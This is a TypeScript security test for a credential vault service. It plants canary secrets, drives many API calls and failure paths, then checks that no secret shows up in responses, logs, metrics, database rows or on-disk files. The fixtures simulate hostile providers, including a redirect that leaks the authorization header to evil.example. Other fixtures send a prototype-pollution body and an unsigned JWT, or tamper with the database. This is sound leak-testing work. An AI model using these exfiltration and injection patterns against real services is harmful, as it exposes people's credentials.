import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { makeFolder } from '../support/folder.ts'
import { EMBEDDED_SUPERUSER, startEmbeddedPostgres } from '../../src/store/index.ts'
import { retargetCatalog } from '../support/catalog.ts'
import { query } from '../support/cluster.ts'
import { startVaultProcess } from '../support/process.ts'
import { json, startProvider } from '../support/provider.ts'
import { findSecrets } from '../support/spellings.ts'
import { eventually } from '../support/vault.ts'

/**
 * Every secret that goes in carries a canary. After every journey and failure path everything that
 * can be looked at from outside is searched, in plain and in the usual spellings: one hit fails.
 */
const canaries: string[] = []
let seeded = 0
const secret = (prefix = '') => {
  const body = `c4NaRy${(++seeded).toString().padStart(4, '0')}zZqX7wV${seeded * 7919}`
  canaries.push(body)
  return `${prefix}${body}`
}

const dataDir = makeFolder('canary')
const provider = await startProvider((_received, reply) => { json(reply, 200, { livemode: false }) })
const settings = { DATA_DIR: dataDir, LOG_LEVEL: 'trace', CATALOG_DIR: retargetCatalog(provider.url), EGRESS_ALLOW_PROVIDER: provider.endpoint, RESPONSE_LIMIT_BYTES: '100000' }
let vault = await startVaultProcess(settings)
t.teardown(async () => {
  await vault.kill('SIGTERM')
  await provider.close()
})
const token = readFileSync(join(dataDir, 'ops-token'), 'utf8').trim()
canaries.push(token.slice(4))

/** What callers have seen: bodies and headers of every answer but those that hand a credential out. */
const seen: string[] = []
interface Options {
  readonly body?: unknown
  readonly raw?: string
  readonly headers?: Record<string, string>
  readonly authorization?: string
  readonly secret?: boolean
}

async function call (method: string, path: string, options: Options = {}) {
  const response = await fetch(`${vault.urls.internal}${path}`, {
    method,
    headers: { authorization: options.authorization ?? `Bearer ${token}`, 'content-type': 'application/json', ...options.headers },
    ...(options.raw ?? options.body) !== undefined && { body: options.raw ?? JSON.stringify(options.body) },
  })
  const text = await response.text()
  if (options.secret !== true) seen.push(text, JSON.stringify([...response.headers]))
  return { status: response.status, body: (text === '' ? undefined : JSON.parse(text)) as Record<string, never> }
}

const at = (rest = '') => `/v1/workspaces/acme/connections${rest}`
let made = 0
async function connect (integration: string, credentials: object, config: object = {}): Promise<string> {
  const { status, body } = await call('POST', at(), { body: { integration, environment: 'sandbox', name: `c${++made}`, credentials, config }, headers: { 'idempotency-key': `k${made}` } })
  if (status !== 201) throw new Error(JSON.stringify(body))
  return body['id'] as unknown as string
}

function search (where: string, haystack: Buffer | string): string[] {
  return findSecrets(canaries, haystack).map((canary) => `${where} holds canary ${canary.slice(6, 10)}`)
}

t.test('every journey and failure', async (t) => {
  const stripe = secret('sk_test_')
  const id = await connect('stripe', { secret_key: stripe, webhook_secret: secret('whsec_') })
  await connect('plaid', { secret: secret(), access_token: secret('access-sandbox-') }, { client_id: 'abcdef0123456789' })
  await connect('wise', { api_token: secret() })
  await connect('alloy', { token: secret('token0000000000'), secret: secret('secret000000000') })
  await connect('onfido', { api_token: secret('api_sandbox.abc.') })
  const jira = await connect('jira', { api_token: secret('ATATT3') }, { site_url: 'https://acme.atlassian.net', email: 'a@b.example' })

  for (const body of [
    { integration: 'stripe', environment: 'live', name: 'x', credentials: { secret_key: secret('sk_test_') } }, { integration: 'stripe', environment: 'sandbox', name: 'x', credentials: { secret_key: secret('pk_test_') } },
    { integration: 'stripe', environment: 'sandbox', name: 'x', credentials: { secret_key: secret('sk_test_') }, nope: 1 }, { integration: 'stripe', environment: 'sandbox', name: 'x', credentials: { secret_key: [secret()] } },
    { integration: 'stripe', environment: 'sandbox', name: 'x', credentials: { nope: secret() } }, { integration: 'stripe', environment: 'sandbox', name: 'x', credentials: { secret_key: `${secret('sk_test_')}\n${secret()}` } },
    { integration: 'nope', environment: 'sandbox', name: 'x', credentials: { secret_key: secret('sk_test_') } }, { integration: 'stripe', environment: 'sandbox', name: 'c1', credentials: { secret_key: secret('sk_test_') } },
    { integration: 'stripe', environment: 'sandbox', name: 'x', credentials: { secret_key: secret('sk_test_') }, config: { connected_account: secret() } },
  ]) t.ok((await call('POST', at(), { body })).status >= 400)
  t.equal((await call('POST', at(), { raw: `{"credentials":{"secret_key":"${secret('sk_test_')}"` })).status, 400)
  t.equal((await call('POST', at(), { raw: `{"__proto__":{"secret_key":"${secret('sk_test_')}"}}` })).status, 400)
  t.equal((await call('POST', at(), { raw: secret(), headers: { 'content-type': 'text/plain' } })).status, 415)
  t.equal((await call('GET', at(), { authorization: `Bearer ${secret()}` })).status, 401)
  t.equal((await call('GET', at(), { authorization: `Bearer cvt_${secret()}` })).status, 401)
  t.equal((await call('GET', at(), { authorization: `Bearer eyJhbGciOiJub25lIn0.${Buffer.from(JSON.stringify({ iss: secret() })).toString('base64url')}.x` })).status, 401)
  t.equal((await call('GET', `/${secret()}`)).status, 404)
  t.equal((await call('GET', at(`/${secret()}`))).status, 400)
  t.equal((await call('GET', at('/?q=1'), { headers: { 'x-actor': `${secret()} with space` } })).status, 400)
  t.equal((await call('POST', at(), { body: { integration: 'stripe', environment: 'sandbox', name: 'c1', credentials: { secret_key: stripe, webhook_secret: secret('whsec_') } }, headers: { 'idempotency-key': 'k1' } })).status, 409)

  await call('GET', at())
  await call('GET', at(`/${id}`))
  await call('PATCH', at(`/${id}`), { body: { labels: { a: 'b' } }, headers: { 'if-match': '*' } })
  provider.answer = (received, reply) => { json(reply, 401, { error: { message: `bad key ${received.headers.authorization ?? ''}` } }, { 'request-id': received.headers.authorization ?? '' }) }
  t.equal((await call('POST', at(`/${id}/rotate`), { body: { credentials: { secret_key: secret('sk_test_') }, test: true } })).status, 422)
  t.equal((await call('POST', at(`/${id}/test`))).status, 200)
  provider.answer = (_received, reply) => { json(reply, 200, { livemode: false }) }
  t.equal((await call('POST', at(`/${id}/rotate`), { body: { credentials: { secret_key: secret('sk_test_') }, test: true } })).status, 200)
  t.equal((await call('POST', at(`/${id}/rollback`))).status, 200)
  t.equal((await call('POST', at(`/${id}/resolve`), { body: { environment: 'sandbox' }, secret: true })).status, 200)
  t.equal((await call('POST', '/v1/workspaces/acme/resolve', { body: { environment: 'sandbox', connection_ids: [id, jira] }, secret: true })).status, 200)
  t.equal((await call('POST', at(`/${id}/resolve`), { body: { environment: 'live' } })).status, 409)

  const invoke = (body: object) => call('POST', at(`/${id}/invoke`), { body: { environment: 'sandbox', action: 'create_refund', input: { charge: 'ch_1' }, timeout_ms: 300, ...body } })
  const faults: Parameters<typeof startProvider>[0][] = [
    (received, reply) => { json(reply, 200, { echo: received.headers, again: Buffer.from(received.headers.authorization ?? '').toString('base64') }) },
    (received, reply) => { reply.writeHead(302, { location: `https://evil.example/?k=${encodeURIComponent(received.headers.authorization ?? '')}` }).end() },
    (received, reply) => { reply.writeHead(200, { 'content-type': 'text/html' }).end(`<p>${received.headers.authorization ?? ''}</p>`) },
    (received, reply) => { reply.writeHead(500, { 'content-type': 'application/json' }).end(`{"broken": "${received.headers.authorization ?? ''}`) },
    (received, reply) => { reply.writeHead(200, { 'content-type': 'application/octet-stream' }).end(Buffer.from(`\0\0${received.headers.authorization ?? ''}`)) },
    (received, reply) => { reply.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify((received.headers.authorization ?? '').repeat(9_000))) },
    () => {},
    (_received, reply) => { reply.destroy() },
  ]
  for (const fault of faults) {
    provider.answer = fault
    await invoke({})
  }
  provider.answer = faults[0] as never
  await invoke({ dry_run: true })
  await invoke({ action: 'nope' })
  await invoke({ input: { nope: 1 } })
  await call('POST', at(`/${id}/request`), { body: { environment: 'sandbox', method: 'GET', path: '/v1/anything' } })
  const plaid = (await call('GET', at('?integration=plaid'))).body['connections'] as unknown as { id: string }[]
  provider.answer = (received, reply) => { json(reply, 400, { error_message: `no ${received.body}`, secret: received.headers['plaid-secret'] }) }
  await call('POST', at(`/${plaid[0]?.id}/invoke`), { body: { environment: 'sandbox', action: 'get_accounts' } })

  // Kept results, files, credentials in outputs: what callers get of them is theirs, and nobody else's.
  const keyed = async (key: string, body: object) => await call('POST', at(`/${id}/invoke`), { body: { environment: 'sandbox', ...body }, headers: { 'idempotency-key': key }, secret: true })
  const inputSecret = secret('input-')
  const outputSecret = secret('output-')
  provider.answer = (_received, reply) => { json(reply, 200, { id: 're_1', note: outputSecret }) }
  const refund = { action: 'create_refund', input: { charge: 'ch_1', metadata: { note: inputSecret } } }
  for (let time = 0; time < 2; time++) t.equal((await keyed('canary-1', refund)).status, 200)
  t.equal((await keyed('canary-1', { ...refund, input: { charge: inputSecret } })).status, 409)
  provider.answer = (_received, reply) => { json(reply, 409, { error: { message: outputSecret } }) }
  for (let time = 0; time < 2; time++) await keyed('canary-2', refund)
  const issued = secret('access-sandbox-')
  provider.answer = (_received, reply) => { json(reply, 200, { access_token: issued, item_id: 'i' }) }
  const exchange = async (more: object, taken: boolean) => await call('POST', at(`/${plaid[0]?.id}/invoke`), {
    body: { environment: 'sandbox', action: 'exchange_public_token', input: { public_token: secret('public-') }, ...more }, secret: taken,
  })
  t.match((await exchange({ store_as: { name: 'stored' } }, false)).body, { stored: {}, output: { access_token: '[stored]' } })
  t.equal((await exchange({}, true)).status, 200)
  provider.answer = (_received, reply) => { json(reply, 200, {}) }
  const file = { base64: Buffer.from(secret('file-')).toString('base64'), filename: 'x' }
  await call('POST', at(`/${id}/request`), { body: { environment: 'sandbox', method: 'POST', path: '/v1/files', encoding: 'multipart', body: { file } } })

  const created = await call('POST', '/v1/service-tokens', { body: { name: 'x', preset: 'ops', workspaces: ['*'], environments: ['*'] }, secret: true })
  canaries.push((created.body['token'] as unknown as string).slice(4))
  await call('GET', '/v1/service-tokens')
  await call('DELETE', `/v1/service-tokens/${(created.body['service_token'] as unknown as { id: string }).id}`)

  const cluster = await startEmbeddedPostgres({ dataDir })
  const database = cluster.url(EMBEDDED_SUPERUSER, 'connection_vault')
  await query(database, "update credential_versions set sealed = overlay(sealed placing '\\x00' from 120) where connection_id = $1", [jira])
  t.equal((await call('POST', at(`/${jira}/resolve`), { body: { environment: 'sandbox' } })).status, 500)
  await query(database, 'revoke insert on audit_events from connection_vault_service')
  t.equal((await call('POST', at(`/${id}/resolve`), { body: { environment: 'sandbox' } })).status, 500)
  await query(database, 'grant insert on audit_events to connection_vault_service')
  await call('DELETE', at(`/${id}?force=true`))
  await call('GET', '/v1/workspaces/acme/audit-events?limit=200')
  await call('GET', '/v1/audit/verify')
  seen.push(await (await fetch(`${vault.urls.operations}/metrics`)).text())

  const before = vault.output()
  await vault.kill('SIGKILL')
  vault = await startVaultProcess(settings)
  seen.push(before, vault.output())
  await eventually(async () => (await query(database, 'select from audit_unsealed')).length === 0)
})

t.test('not one canary', async (t) => {
  t.ok(canaries.length > 30, `${canaries.length} secrets went in`)
  t.same(seen.flatMap((text) => search('an answer, metric or log line', text)), [])
  t.same(search('a log line', vault.output()), [])

  const cluster = await startEmbeddedPostgres({ dataDir })
  const database = cluster.url(EMBEDDED_SUPERUSER, 'connection_vault')
  const tables = await query<{ name: string }>(database, "select quote_ident(relname) as name from pg_class where relkind in ('r', 'p') and relnamespace = 'public'::regnamespace")
  t.ok(tables.length >= 17)
  let rows = 0
  for (const { name } of tables) {
    for (const { text } of await query<{ text: string }>(database, `select t::text as text from ${name} t`)) {
      rows++
      t.same(search(name, text), [])
      // bytea columns are shown as hex.
      for (const [, hex] of text.matchAll(/\\\\x([0-9a-f]{16,})/g)) t.same(search(`${name}, a bytea`, Buffer.from(hex ?? '', 'hex')), [])
    }
  }
  t.ok(rows > 80, `${rows} rows were searched`)

  // The database alone is worthless: no file of it, write-ahead log included, holds a secret.
  await query(cluster.url(EMBEDDED_SUPERUSER, 'postgres'), 'checkpoint')
  let megabytes = 0
  for (const file of readdirSync(cluster.clusterDir, { recursive: true, encoding: 'utf8' })) {
    const path = join(cluster.clusterDir, file)
    if (!statSync(path, { throwIfNoEntry: false })?.isFile()) continue
    const bytes = readFileSync(path)
    megabytes += bytes.length / 1_048_576
    const hits = search(file, bytes)
    if (hits.length > 0) t.same(hits, [], file)
  }
  t.ok(megabytes > 20, `${Math.round(megabytes)} MB of files were searched`)
})

t.test('the search finds what is there', async (t) => {
  const [canary = ''] = canaries
  for (const planted of [canary, Buffer.from(`user:${canary}`).toString('base64'), Buffer.from(canary).toString('hex'), encodeURIComponent(`x${canary}`), Buffer.from(`ab${canary}c`).toString('base64url')]) {
    t.not(search('planted', `before ${planted} after`).length, 0, planted)
  }
})
